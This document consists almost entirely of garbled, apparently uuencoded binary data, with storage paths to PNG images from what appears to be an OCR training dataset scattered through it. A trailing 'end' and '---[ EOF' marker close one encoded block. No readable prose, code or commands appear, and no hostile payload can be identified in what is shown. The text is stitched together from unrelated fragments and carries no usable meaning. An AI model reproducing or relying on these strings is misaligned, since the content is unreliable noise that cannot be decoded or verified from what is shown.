MMK]?8\N.0+H)5'WYMBMN+B)@$`#-PP0`R?F)UXO?$"NNRHQ*^TA]U.4J][) MS-*]H.?G%U?OCO\C\WP9L\<=(KP[RY^N3#TRU\^O`1L M]O.WS<S6R(>")T@8'@BG$!>J:(8RX.U.$>-+7PT(E^S%R>GA"2!.PO\E.2'5S*(KY=@5YBM MU6V&.$?OY0?V=(UH ML&'!/85+8PC"&H='QR>G.">I`C M*H]E1YF=V)J>HF.CJD(Q@7]/CX\/P(RMGAU=65/`L+^1PI M%4LM(1K9)>_>N)COP!:C<ROIE1L6((>'.-R4?&R?.^.@?SA#PP:4A>2RN4.LNRP-_<6:.3X4-M*_II(.3F<E51*"K/U0.Z[E-\5M7[^AF$ZQP$8V+]@QV4Q'P88*(D(I'.H5$.I8(!.ZU<J0!WP.X-XBYIU.GI\<7YY?'F^?/>F!8BN.A\>79X9^>/[N16``-Y\!-O6CL_<OCSSH[O:*P$='^M7%^8N0 M_.&-.*=.OJ.Z)1*[/KWY M[?(+Y+W._I>'P_N621?.!0 M&I+MB?L28[6W.&HX0L12UT M(N*-5:?+"&</=NX^:^`HS.>.H.MP/?#E#T.)'NL.&DY8$'F1P/DZ# MC6R+88SY>D..J-DE6B[`'I><H1#:\$I3@*NTX*65QM'4/!#".P9?#:)\A`U3H\\W26%'%U=7AU?L_04[>W]\=7H._<^>#7U`S.ODWQ3?VUE"P.I]&L>\D<W6&`X.%?8"'#NX_D(SUI)LD?R-CBYU%T'AYV&B.[6*.[9-4L@@9''%R?&1OANUS#WGH4W-\/WAOWGQ^]LAA_N[CT_?G<C/`BMM[L.)FX(4=LT%BLMFN[Z\OQLY]?D.)&.K-6&9G)Z1<7GGP((\=#!XN]1AH0<X='H#D?&]U%7$7^*4^0 M.G3GVS0ZY%L#GY"1*`)G>Q^74L%<5!&[L:&@.!\Q.2.05#^R:.R)YD89*!-8C>YIYE<]B_"T':A8?AP+>Z5=>DRL.FOXUN&.Q#AWB&.^- MGG2)`:]9Z042OH]<171$Y*0OC\C.BP:?&E' MSVM)N_`='NJ8K](LP$OSIGPDK][KQ8_89I@BXL8O]WSLZ01+?%<0Z-7FX[N7 MLO@_CM:^UA@.VU`\*6N3M`RL?I&6CJ1ES$O&ZRA:^L:X MV"9I&0Z=W4).CYK::X=/7-CKG'ZX.PP905 M7Z&K6_8.%VE! MCY6%ZN9M'*.A.([+RZ%XU'(4A]865^>9Q?7%*^EYYU&B_<`<J#"[=WYPQ\/UY?4[/9.T[/0=]NOF#\3JG<?KL\.^]TJ+NQUAV$.26'7.._ M']2R\5GMA>S`SLO9@=*()68?O$HA)?`]6$4Z'@XBO%O&PZ"0DHC0L.TL&OKZY.AV=&[B^.+W0><G'$()QB"[^ M5Z8CM_X?9W_![<__Z/ZG:QAX_]/M]_K5_<^W*&7RE\X<H_DVNKJQ</[<5=#+ M]A\/9I/['Z-O@/WO&$9U_O-MRM'9S34S!YJV?[J*T#R#79.-`!B M%2UL1K[P%Z(<=2IB&SSR6$XS=@49[G5*(!P1`V1<S0O]#7+Y2#*3<_B_")`- M1HRL-AEK^LQ^7OAR.^NI/._O'NZ%#9.^[\37*^F++7J.\9S<-H]#4HR9[6-(TH*:^80P*3.%'6KF!+"V#X(_>`6X[.0?C&7`#R.+1!.P=U7.V^GEC8!C&\PJ9'7BT-O*UW%>BSZ^'01#5LV8M.#.DY=$?OZ`9@PE-(ON2AS@[EZS7U MH`J0/<%F_#.^!\SF91(_(N9P\YPP&!'L-<VMNFW8$IA[(_`.GO_R_5F^(ZY5[.FG"3W]Q6P.2M MSSZVTB6O'^1N8&FN5`?8Z(8*8T0^7J2W><]?^^ZG:WC]EH]NI15SX#N93.&3P\M-3@8FI"A4TX/9<5P\`.!5"%$_DB$@%9@`ZT5T+9* M/AVW!?^23P&?PDU&B$_NU<U2?([..!@3.TU#W@.)R9C M1$$0.&X"9N:NV2G.J)7I@&JM!O]_M*U'A23'SN))M`776.$XI'L/.M#Q"GZD:>UPV0[..B%N[6UM9]^9U8/ M6K/Q"IL9.XH MTHZ@G.%LEGW\FC.KLZ:C2.O4U.8..QMM\/.A\D(T$2NXN=8K=+.TE&TZ"8P?=YD MZB8]"<.*SQ#8_).SZY/KQ*Z5V$.![8[[D56C.*N%.<7XK&OG^#D9.7U_`]L4IJX2[F8!W=W@4<P^1CI@ M6.-.VES4P9AGT_DX6 M*@A%BUGS$.B^MTLK[FB!1U@P!FZO M0B:KB_!22Y%AY@`<.]9`I[HC(.<-7K8RR$_L-GBB%Y9$X<@(HFB#%34G+*&/8 M.O'U'\0II./]8:')-!3&7J_8I@CI M]8HH34E)Q^R8Q.>E&6>[HE(33J_F\RH/LOO"EE^6\AR^T*Z"EJSS>L^U^!9[!L6ED*M M9>1+B.OEVJ<\.PYW0P^ M0.]DSIR._NDVF'D>1W\''_[42NFHQ82V.\'Z#EU780M/I'1@M@-[\SIJ6[@><&2.^S9GP!PR]@"PA9P4[=V[#`X$=JK)2^I.]=:8TOIP'WW17#_!YVZKAXH+>(7.I1F.CV]*MKQ"F2UY>B+M_SY=@+G^@BNC'P^!9TM:_E3A^YX_5^7[EK+[ MGZ][^[_Q_K]G#H=)_M>P1_D__6&5__--RJ\<+[Q#GGD`(#(O`$).)P!>`YM`3 M02M]B"Y])L!0CDF<`Q*"T"!`\3PI/M@'Q(=AZ'ESKR$$:YQ%=<$<?(">FU]3 M9[_CFW3`0<B!@7W=.VOH6.='?$V'.P#)C"%<=0 M\.&A"..E=.KLT@-S .YD.?.\>LRG<VR%@('H*I?.=D@.O.UR"BRP[/DC`'(+$IKBJ.O.*% M'.]HRS#DM61 MV(M..VP&W3?-?C!=^M&"[.ZYE6T>Y9JC5XFZCQ.HM^W MK/V4"*^%CAT`G-"%R$.\13Q9B(UCAM<Y*>(8]`69'* M.M/O-*?!1PZ'>\(Y?OQ1P7TPW'"P*VHIA:"+/#)-E$4.5]+B#":38EOG>=EU>^F!2[%1R6A00FA7$F-U2I#V)#&[IEUD M3$\2.WO]UP2AFWO]U..85I&)`[W*'S`.3EY+KG+C+[648"5M M*3SX)U[<CI^`KQ]!<?.

)/$FZZ&`OG48-'U/6 MFC\9V3S!-#WLXZB\_RU04#Q+3P_53^C1)EY$VIQ2`]D+O:%HV[D\P^4T\-1.EW7:]DUJ[_-.MK^IIPA6PP(=_1<!CV(^\AW\%R$RO<.'<PL ME#<W<7YABJRIS6`GJ-#6/ZWVK$^KGO%I9?0^K.MRLG/I)O6E_(*_U0>X17=[R2`]%P_EW.RS&-6FG(9\CDXM.KC3ZO!`.\W3IO26:BO2FE1DXDKX[26[4-'\CG)1I1O+@[PQ:*6<D#]).<P\4.A^1ECJF[R49:EKZ6C1)YTIR%G/)7$H:OV)/?-.P<QQ4QGW%O0\0]M)&P9XM+1$CF5[^T7_U7* MAO?_$*W_^?\-U.FD+ M]..>Z.+ M99?.W$KRC^N.QE%BUU*+24. M*7`OKO\9W%TF`Z^N.)CGM&[8UI&#NI]L3-!W&W.?M"TY0LD0+V+?4NBW`%0QZK7(#G%=DOW98O/2!9`? M"##&2KR%I.BZ`'@````` ` end ---[ EOF.YCE4QU\$0'`.?Z<@0_.IMP!<F76U?QP\^Z>DDA%5%10P6D4PD*G(>FM.-YN/(6$UN=Z05U..TH!ABW'$G_X@.W_V8WSO\:]+K=5Y@&9E3GO]^DO/S^/_/\GRU\-\KG`#!N MV=..G5B\..MM6)W\<5O$..G.U)!-=A8OBT#6>64?1G\C6W\?\? ML:##-GGSHK.J$:!*!$!\52)`E0A0)0)4B0!5(D"5"%`E`E2)`%4B0)4(4"4"5(D`52)` ME0A0)0)4B0!5(D"5"%`E`E2)`%6I2E6J4I6J5*4J5:E*5:I2E:I4I2I5^:.ZD74>WZ4#IVT\%M8.`B9_E.J. MG@4:VO8[?#2-LY+H\&(60P<(351^)M:'E..MQU]KK5A/D2%M8V4>-I..<7)RF^M.E *OP'CP.7IC'IL''A8:.)TQ#0+#'&"$6/T.